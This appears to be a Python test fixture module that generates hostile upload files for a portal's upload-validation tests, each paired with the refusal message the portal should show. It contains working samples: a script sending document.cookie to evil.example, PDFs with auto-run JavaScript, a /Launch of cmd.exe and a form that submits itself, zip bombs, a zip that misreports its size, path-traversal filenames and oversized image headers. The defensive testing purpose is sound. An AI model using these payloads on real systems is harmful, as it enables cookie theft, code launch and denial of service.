"""A corpus of hostile uploads, made in code: what an attacker (or an unlucky browser) sends.

Each file says what it is meant to provoke and the words of the refusal the uploader must read.
The upload tests run every file through every place the portal takes a file.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache

import pikepdf

from tests.applicants import files

SCRIPT = b"<html><body><script>fetch('https://evil.example/?c=' + document.cookie)</script></body></html>"


@dataclass(frozen=True)
class Hostile:
    label: str
    name: str
    content_type: str
    make: object  # () -> bytes, so big files are only built by the tests that send them
    reason: str  # words of the refusal the uploader reads (documents and letters)

    @property
    def content(self) -> bytes:
        return self.make()


def pdf_padded(size: int) -> bytes:
    body = files.PDF
    return body + b"%" + b"0" * (size - len(body) - 1)


def polyglot_late() -> bytes:
    """A PDF with an HTML page after the first kilobyte, where a look at the start would miss it."""
    return files.PDF + b"%" + b"0" * 4096 + b"\n" + SCRIPT + b"\n%%EOF\n"


def polyglot_early() -> bytes:
    return b"%PDF-1.7\n" + SCRIPT + b"\n" + files.PDF[9:]


def _docx_with(document_xml_size: int, *, entries: int = 0) -> bytes:
    """A real Word skeleton whose document.xml unpacks to `document_xml_size` bytes, streamed so the
    test never holds the unpacked size in memory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            block = b" " * (1024 * 1024)
            left = document_xml_size
            while left > 0:
                member.write(block[: min(left, len(block))])
                left -= len(block)
        for n in range(entries):
            archive.writestr(f"word/media/part{n}.xml", "")
    return buffer.getvalue()


@cache
def zip_bomb() -> bytes:
    """A .docx of about 200 KB that unpacks to 200 MB."""
    return _docx_with(200 * 1024 * 1024)


@cache
def zip_ratio_bomb() -> bytes:
    """Small in both forms (20 MB unpacked), but 1,000 times smaller packed than unpacked."""
    return _docx_with(20 * 1024 * 1024)


@cache
def zip_entry_bomb() -> bytes:
    """Thousands of empty entries: cheap to send, costly to list and unpack."""
    return _docx_with(10, entries=5000)


@cache
def zip_lying_directory() -> bytes:
    """The directory says document.xml unpacks to 100 bytes; its data unpacks to 50 MB."""
    honest = _docx_with(50 * 1024 * 1024)
    data = bytearray(honest)
    # Patch the uncompressed size in the central directory entry and the local header of document.xml.
    name = b"word/document.xml"
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_len = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46 : central + 46 + name_len] == name:
            _patch_zip64_size(data, central, name_len)
            break
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def _patch_zip64_size(data: bytearray, central: int, name_len: int) -> None:
    extra_len = struct.unpack_from("<H", data, central + 30)[0]
    extra = central + 46 + name_len
    end = extra + extra_len
    while extra < end:
        tag, size = struct.unpack_from("<HH", data, extra)
        if tag == 0x0001:  # zip64: uncompressed size first
            struct.pack_into("<Q", data, extra + 4, 100)
            return
        extra += 4 + size
    struct.pack_into("<I", data, central + 24, 100)


PDF_TYPE, PNG_TYPE, DOCX_TYPE = (
    "application/pdf",
    "image/png",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
)
BOMB = "looks like a zip bomb"

REFUSED = [
    Hostile(
        "polyglot PDF/HTML, page after the first kilobyte",
        "cv.pdf",
        PDF_TYPE,
        polyglot_late,
        "also contains web page code (HTML)",
    ),
    Hostile(
        "polyglot PDF/HTML, page at the start", "cv.pdf", PDF_TYPE, polyglot_early, "This PDF contains web page code"
    ),
    Hostile(
        "SVG with a script", "photo.svg", "image/svg+xml", lambda: files.SVG, "This file is a web page or an SVG image"
    ),
    Hostile(
        "SVG with a script named .png",
        "photo.png",
        PNG_TYPE,
        lambda: files.SVG,
        "This file is a web page or an SVG image",
    ),
    Hostile(
        "HTML page named .pdf",
        "transcript.pdf",
        PDF_TYPE,
        lambda: files.HTML,
        "This file is a web page or an SVG image",
    ),
    Hostile("zip bomb: 200 MB unpacked", "statement.docx", DOCX_TYPE, zip_bomb, BOMB),
    Hostile("zip bomb: 1000:1", "statement.docx", DOCX_TYPE, zip_ratio_bomb, BOMB),
    Hostile("zip bomb: 5,000 entries", "statement.docx", DOCX_TYPE, zip_entry_bomb, BOMB),
    Hostile(
        "zip whose directory lies about the size",
        "statement.docx",
        DOCX_TYPE,
        zip_lying_directory,
        "This Word file is damaged",
    ),
    Hostile("PNG named .pdf", "scan.pdf", PDF_TYPE, lambda: files.PNG, "name ends in .pdf, but the file is a PNG"),
    Hostile(
        "PDF named .exe",
        "cv.exe",
        "application/x-msdownload",
        lambda: files.PDF,
        "name ends in .exe, but the file is a PDF",
    ),
    Hostile("program named .pdf", "cv.pdf", PDF_TYPE, lambda: files.EXE, "This file is a program"),
    Hostile("zero bytes", "cv.pdf", PDF_TYPE, lambda: b"", "empty"),
]

# 10x the limit: built by the test from the limit it sets.
OVERSIZED_FACTOR = 10

# Valid content, hostile names: accepted, stored under a random name in the upload folder.
TRAVERSAL_NAMES = [
    "../../etc/passwd.pdf",
    "/etc/passwd.pdf",
    "..\\..\\Windows\\System32\\drivers\\etc\\hosts.pdf",
    "evil\x00.pdf",
    "a" * 300 + ".pdf",
]


# --- Active content: PDFs a desktop reader would act on, and images too large to decode ----------
# Built with pikepdf, so each is a well-formed PDF whose only fault is what it carries.

SCRIPT_REASON = "This PDF contains a script. Print it to PDF and upload the copy."


def _pdf(build=None, *, compress: bool = False) -> bytes:
    """A one-page PDF; `build(pdf)` adds what the test is about. Compressed, every dictionary sits in
    an object stream, where a search of the raw bytes for "/JavaScript" finds nothing."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    if build:
        build(pdf)
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if compress else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, compress_streams=compress)
    return out.getvalue()


def _action(pdf, kind: str, **entries):
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **entries))


def _open_action_js(pdf):
    pdf.Root.OpenAction = _action(pdf, "/JavaScript", JS=pikepdf.String("app.launchURL('https://evil.example')"))


def _document_js(pdf):
    script = _action(pdf, "/JavaScript", JS=pikepdf.String("this.exportDataObject({cName: 'x', nLaunch: 2})"))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), script]))
    )


def _launch(pdf):
    pdf.Root.OpenAction = _action(pdf, "/Launch", F=pikepdf.String("cmd.exe"), Win=pikepdf.Dictionary(F="cmd.exe"))


def _page_aa_submit(pdf):
    # A page-open action that posts the form somewhere: no script, still done without asking.
    submit = _action(pdf, "/SubmitForm", F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="https://evil.example/"))
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=submit)


def _embedded(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, files.EXE, mime_type="application/octet-stream")


def _rich_media(pdf):
    annotation = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.RichMedia,
            Rect=pikepdf.Array([0, 0, 100, 100]),
            RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary(Names=pikepdf.Array())),
        )
    )
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))


def _xfa(pdf):
    template = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=template)


def escaped_name_js() -> bytes:
    """/J#61vaScript is /JavaScript to every reader; a byte search for "/JavaScript" misses it."""
    return _pdf(_open_action_js).replace(b"/JavaScript", b"/J#61vaScript")


def appended_svg() -> bytes:
    """A PDF, then an SVG that runs on load (no <script> tag) after its %%EOF, past the first kilobyte."""
    return (
        files.PDF.replace(b"trailer", b"%" + b"0" * 2048 + b"\ntrailer")
        + b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example\')"/>\n'
    )


def png_declaring(width: int, height: int) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    chunk = b"IHDR" + ihdr
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", len(ihdr)) + chunk + struct.pack(">I", zlib.crc32(chunk))


def jpeg_declaring(width: int, height: int) -> bytes:
    exif = b"\xff\xe1" + struct.pack(">H", 2 + 3000) + b"Exif\x00\x00" + b"\x00" * 2994  # the frame comes later
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + exif + frame + b"\xff\xd9"


def signed_looking() -> bytes:
    """A PDF as a signing tool leaves it: a signature field (/FT /Sig) whose value is a /Sig
    dictionary with a PKCS#7 placeholder, a link to a web page and an opening view (a destination,
    not an action). None of it runs anything: it must be accepted."""

    def build(pdf):
        signature = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Sig,
                Filter=pikepdf.Name("/Adobe.PPKLite"),
                SubFilter=pikepdf.Name("/adbe.pkcs7.detached"),
                ByteRange=pikepdf.Array([0, 100, 200, 300]),
                Contents=pikepdf.String(b"\x30\x82" + b"\x00" * 62),
                M=pikepdf.String("D:20261201120000Z"),
                Name=pikepdf.String("Dr Ada Okafor"),
                Reason=pikepdf.String("Letter of recommendation"),
            )
        )
        page = pdf.pages[0].obj
        field = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Widget,
                FT=pikepdf.Name.Sig,
                T=pikepdf.String("Signature1"),
                V=signature,
                Rect=pikepdf.Array([0, 0, 0, 0]),
                F=132,
                P=page,
            )
        )
        link = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Link,
                Rect=pikepdf.Array([10, 10, 200, 30]),
                A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://hospital.example/staff/okafor")),
            )
        )
        page.Annots = pdf.make_indirect(pikepdf.Array([field, link]))
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]), SigFlags=3)
        pdf.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.Fit])

    return _pdf(build)


PRINT_IT = "Print it to PDF and upload the copy."
ACTIVE_PDFS = [
    Hostile("PDF: JavaScript run on opening", "letter.pdf", PDF_TYPE, lambda: _pdf(_open_action_js), SCRIPT_REASON),
    Hostile("PDF: document-level JavaScript", "letter.pdf", PDF_TYPE, lambda: _pdf(_document_js), SCRIPT_REASON),
    Hostile(
        "PDF: JavaScript inside an object stream",
        "letter.pdf",
        PDF_TYPE,
        lambda: _pdf(_open_action_js, compress=True),
        SCRIPT_REASON,
    ),
    Hostile("PDF: JavaScript under an escaped name", "letter.pdf", PDF_TYPE, escaped_name_js, SCRIPT_REASON),
    Hostile("PDF: /Launch", "letter.pdf", PDF_TYPE, lambda: _pdf(_launch), "command that starts a program"),
    Hostile("PDF: page-open /AA action", "letter.pdf", PDF_TYPE, lambda: _pdf(_page_aa_submit), "automatic action"),
    Hostile("PDF: embedded file", "letter.pdf", PDF_TYPE, lambda: _pdf(_embedded), "another file attached inside it"),
    Hostile(
        "PDF: RichMedia (Flash)", "letter.pdf", PDF_TYPE, lambda: _pdf(_rich_media), "embedded video, sound or Flash"
    ),
    Hostile("PDF: XFA form", "letter.pdf", PDF_TYPE, lambda: _pdf(_xfa), "XFA form"),
    Hostile("PDF: SVG appended after %%EOF", "letter.pdf", PDF_TYPE, appended_svg, "added after its end"),
    Hostile("PDF: damaged", "letter.pdf", PDF_TYPE, lambda: b"%PDF-1.7\n1 0 obj <<>> endobj\n%%EOF\n", "damaged"),
]
HUGE_IMAGES = [
    Hostile(
        "PNG declaring 100,000 x 100,000 pixels",
        "scan.png",
        PNG_TYPE,
        lambda: png_declaring(100_000, 100_000),
        "100,000 x 100,000 pixels",
    ),
    Hostile(
        "JPEG declaring 65,535 x 65,535 pixels",
        "scan.jpg",
        "image/jpeg",
        lambda: jpeg_declaring(65_535, 65_535),
        "65,535 x 65,535 pixels",
    ),
]
